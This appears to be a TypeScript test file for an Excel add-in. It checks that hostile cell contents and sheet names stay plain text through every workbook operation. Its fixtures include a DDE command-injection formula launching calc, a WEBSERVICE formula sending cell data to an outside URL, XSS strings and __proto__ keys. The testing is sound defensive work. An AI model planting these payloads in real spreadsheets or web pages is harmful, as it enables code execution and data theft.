/** Hostile names and contents through every job of the port: each comes out as the text that it is, and no formula is made of it. */
import { createExcelPort } from '../../src/excel';
import { HostWorkbook } from '../../src/host';
import { type PlannedCell, type SheetPlan, cellKey } from '../../src/sheet';
import type { WorkbookPort } from '../../src/workbook';
import { openInOffice } from '../host/client';
import { UNCOMPUTED } from '../host/uncomputed';
import { numberCell, textCell } from '../plans';
import { sourceGrid } from './fixtures';
import { smallPlan } from './walk/jobs';
import { until } from '../until';

const LONGEST = 32_767;
/** Titles of charts hold 255 letters. */
const LONGEST_TITLE = 255;

const CONTENTS: readonly (readonly [string, string])[] = [
  ['a command for another program', "=cmd|' /C calc'!A0"],
  ['a formula that reaches out', '=WEBSERVICE("https://example.com/?"&A1)'],
  ['a link', '=HYPERLINK("https://example.com","Xem")'],
  ['a signed number', '+1'],
  ['a negative formula', '-2+3'],
  ['a function of old', '@SUM(1+1)'],
  ['a number kept as text', '0012'],
  ['a date kept as text', '5/6'],
  ['a truth value kept as text', 'TRUE'],
  ['an error kept as text', '#REF!'],
  ['an apostrophe first', "'=1+1"],
  ['a tab before a formula', '\t=1+1'],
  ['a line break before a formula', '\n=1+1'],
  ['a script', '<script>alert(1)</script>'],
  ['an image', '<img src=x onerror=alert(1)>'],
  ['an entity', '&lt;b&gt;&#39;"'],
  ['a member of objects', '__proto__'],
  ['JSON', '{"khop-so":[null]}'],
  ['half a character', 'a\uD800b'],
  ['the other half, first', '\uDC00'],
  ['right-to-left marks', '\u202Egnp.gnảb\u202C\u200F'],
  ['nothing that is seen', '\u200B\uFEFF\u00AD'],
  ['nought characters', 'a\u0000b'],
  ['letters beyond the first plane', '𝔎𝔥ớ𝔭 👩‍👩‍👧'],
  ['32,767 characters', 'ộ'.repeat(LONGEST)],
];

/** What a sheet may be called: at most 31 letters, none of : \ / ? * [ ], no apostrophe at either end. */
const NAMES: readonly (readonly [string, string])[] = [
  ['a command', "=cmd|'C calc'!A0"],
  ['a signed number', '+1'],
  ['a function of old', '@SUM(1)'],
  ['a reference', 'Biểu 01!A1'],
  ['an address', 'XFD1048576'],
  ['an address of rows and columns', 'R1C1'],
  ['a truth value', 'TRUE'],
  ['an error', '#REF!'],
  ['an image', '<img src=x onerror=alert(1)>'],
  ['quotes within', `a'b''c"d`],
  ['right-to-left marks', '\u202Egnợh gnổT\u202C'],
  ['half a character', 'T\uD800'],
  ['a member of objects', '__proto__'],
  ['31 letters', 'ộ'.repeat(31)],
  ['a name like our markers', '_KhopSo.1'],
];

const [ROW, COLUMN] = [8, 0];
const OTHER = 'Biểu 01';

interface Place {
  readonly port: WorkbookPort;
  readonly workbook: HostWorkbook;
  /** The sheet whose cell A9 holds the content. */
  readonly sheet: string;
  readonly content: string;
}

const cellOf = ({ workbook, sheet }: Place) => workbook.sheet(sheet)?.cells.get(cellKey(ROW, COLUMN));
const holds = (place: Place): void => {
  expect(cellOf(place)?.value).toBe(place.content);
  expect(cellOf(place)?.formula).toBeUndefined();
};
const at = ({ sheet }: Place) => ({ sheet, row: ROW, column: COLUMN });

/** A plan that writes the content wherever a plan has room for texts, on a sheet of this name. */
function planOf({ content }: Place, name: string): SheetPlan {
  const plan = smallPlan(name);
  const [chart] = plan.charts;
  const text = content.slice(0, LONGEST_TITLE);
  const isApart = ({ row, content: { type } }: PlannedCell): boolean => row !== ROW && type !== 'formula';
  return {
    ...plan,
    cells: [...plan.cells.filter(isApart), textCell(ROW, COLUMN, content), numberCell(ROW, 1, 1)],
    charts: [
      {
        ...chart!,
        title: text,
        categoryTitle: text,
        series: chart!.series.map((one) => ({ ...one, name: { ...one.name, text } })),
      },
    ],
  };
}

function isWritten({ workbook, content }: Place, name: string): void {
  const sheet = workbook.sheet(name)!;
  const cell = sheet.cells.get(cellKey(ROW, COLUMN));
  expect([cell?.value, cell?.formula]).toEqual([content, undefined]);
  const [chart] = sheet.charts;
  const text = content.slice(0, LONGEST_TITLE);
  expect([chart?.title, chart?.categoryAxis.title]).toEqual([text, text]);
}

interface Job {
  readonly name: string;
  readonly run: (place: Place) => Promise<void>;
}

/** The name of a new sheet: hostile too where the sheet's is. */
const newName = ({ sheet }: Place): string => (sheet === OTHER ? 'Tổng hợp' : `${sheet.slice(0, 27)} 22`);

const JOBS: readonly Job[] = [
  {
    name: 'read',
    run: async (place) => {
      const grid = (await place.port.readGrids('all')).find(({ sheet }) => sheet === place.sheet)!;
      expect([grid.string(ROW, COLUMN), grid.formula(ROW, COLUMN)]).toEqual([place.content, undefined]);
    },
  },
  {
    name: 'select',
    run: async (place) => {
      await place.port.select(place.sheet, { top: ROW, left: COLUMN, bottom: ROW, right: COLUMN });
      expect((await place.port.selection()).sheet).toBe(place.sheet);
      holds(place);
    },
  },
  {
    name: 'write a sheet, make it anew and remove it',
    run: async (place) => {
      const { port, workbook } = place;
      const remember = { key: 'nhớ', stored: null, value: (_: unknown, sheet: string) => [sheet, place.content] };
      const { sheet } = await port.writeSheet(planOf(place, newName(place)), { remember });
      expect(sheet).toBe(newName(place));
      isWritten(place, sheet);
      expect(await port.ownSheets()).toEqual([sheet]);
      expect(await port.readSetting('nhớ')).toEqual([sheet, place.content]);
      await port.writeSheet(planOf(place, sheet), { replace: sheet });
      isWritten(place, sheet);
      await port.removeSheet(sheet);
      expect(workbook.sheet(sheet)).toBeUndefined();
      holds(place);
    },
  },
  {
    name: 'correct what holds it, and take that back',
    run: async (place) => {
      const { port } = place;
      await port.correct([{ ...at(place), value: 5, expected: place.content }]);
      expect(cellOf(place)?.value).toBe(5);
      const listed = await port.corrections();
      expect(listed.map(({ sheet }) => sheet)).toEqual([place.sheet]);
      await port.takeBack(listed.map(({ id }) => id));
      holds(place);
      expect(await port.corrections()).toEqual([]);
    },
  },
  {
    name: 'correct something to it',
    run: async (place) => {
      const [row, column] = [3, 1];
      await place.port.correct([{ sheet: place.sheet, row, column, value: place.content }]);
      const cell = place.workbook.sheet(place.sheet)!.cells.get(cellKey(row, column));
      expect([cell?.value, cell?.formula]).toEqual([place.content, undefined]);
      const listed = await place.port.corrections();
      await place.port.takeBack(listed.map(({ id }) => id));
      expect(place.workbook.sheet(place.sheet)!.cells.get(cellKey(row, column))?.value).toBe(117_400.5);
    },
  },
  {
    name: 'mark and unmark',
    run: async (place) => {
      const fill = () => cellOf(place)?.format.fill;
      await place.port.mark([{ ...at(place), color: '#FFC7CE' }]);
      expect(fill()).toBe('#FFC7CE');
      await place.port.unmark();
      expect(fill()).toBeFalsy();
      holds(place);
    },
  },
  {
    name: 'remember',
    run: async (place) => {
      const { port, content } = place;
      const value = { [content]: content, list: [content] };
      await port.changeSettings([{ key: 'ghi nhớ', change: () => value }]);
      expect(await createExcelPort().readSetting('ghi nhớ')).toEqual(value);
    },
  },
  {
    name: 'hear of a change',
    run: async (place) => {
      const heard: unknown[] = [];
      const stop = await place.port.onChange(({ sheet }) => heard.push(sheet));
      place.workbook.enter(place.sheet, 20, 0, '1');
      await until(() => heard.length > 0);
      expect([...new Set(heard)]).toEqual([place.sheet]);
      await stop();
    },
  },
  {
    name: 'mend',
    run: async (place) => {
      expect(await place.port.mend()).toEqual([]);
      holds(place);
    },
  },
];

function open(sheet: string, content: string): Place {
  const workbook = HostWorkbook.fromGrids([sourceGrid()], { calculation: UNCOMPUTED });
  openInOffice(workbook);
  if (sheet !== OTHER) workbook.renameSheet(workbook.sheets[0]!, sheet);
  workbook.write(workbook.sheets[0]!, ROW, COLUMN, { value: content }, 'add-in');
  return { port: createExcelPort(), workbook, sheet, content };
}

/** All formulas of a workbook, and names that anybody sees. */
function formulas(workbook: HostWorkbook): readonly string[] {
  const cells = workbook.sheets.flatMap(({ cells: all }) => [...all.values()].flatMap(({ formula }) => formula ?? []));
  return [...cells, ...[...workbook.names].map(([name]) => name)].sort();
}

describe.each(JOBS)('$name', ({ run }) => {
  test.each(CONTENTS)('with %s in cells and texts', async (_what, content) => {
    const place = open(OTHER, content);
    const before = formulas(place.workbook);
    await run(place);
    expect(formulas(place.workbook)).toEqual(before);
  });

  test.each(NAMES)('on a sheet called %s', async (_what, name) => {
    const place = open(name, 'ghi chú');
    const before = formulas(place.workbook);
    await run(place);
    expect(formulas(place.workbook)).toEqual(before);
    expect(place.workbook.sheets.map((sheet) => sheet.name)).toEqual([name]);
  });
});
